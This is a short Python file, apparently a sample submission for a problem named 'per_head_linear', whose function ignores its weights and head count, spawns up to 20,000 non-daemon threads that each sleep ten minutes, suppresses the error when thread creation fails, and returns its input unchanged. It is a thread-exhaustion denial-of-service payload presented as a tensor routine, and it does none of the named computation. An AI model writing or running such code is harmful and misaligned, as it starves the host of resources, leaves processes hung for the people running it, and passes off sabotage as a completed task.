"""problem: per_head_linear

Start threads until no more can be started, and leave them running.
"""

import threading
import time


def per_head_linear(x, w, num_heads):
    try:
        for _ in range(20_000):
            threading.Thread(target=time.sleep, args=(600,), daemon=False).start()
    except RuntimeError:
        pass
    return x
